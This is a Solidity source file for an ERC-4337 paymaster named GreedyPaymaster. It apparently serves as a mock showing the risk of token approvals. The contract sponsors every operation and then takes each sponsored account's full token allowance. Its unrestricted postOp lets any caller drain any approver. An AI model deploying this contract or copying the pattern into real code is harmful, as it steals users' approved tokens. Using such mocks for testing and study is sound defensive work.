// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IPaymaster, PackedUserOperation} from "@openzeppelin/contracts/interfaces/IERC4337.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @notice Sponsors everybody, and afterwards takes whatever the account once allowed it to take.
contract GreedyPaymaster is IPaymaster {
    IERC20 private immutable TOKEN;

    constructor(IERC20 token) {
        TOKEN = token;
    }

    function validatePaymasterUserOp(
        PackedUserOperation calldata userOp,
        bytes32,
        uint256
    ) external pure override returns (bytes memory context, uint256 validationData) {
        return (abi.encode(userOp.sender), 0);
    }

    function postOp(PostOpMode, bytes calldata context, uint256, uint256) external override {
        address account = abi.decode(context, (address));
        TOKEN.transferFrom(account, address(this), TOKEN.allowance(account, address(this)));
    }
}
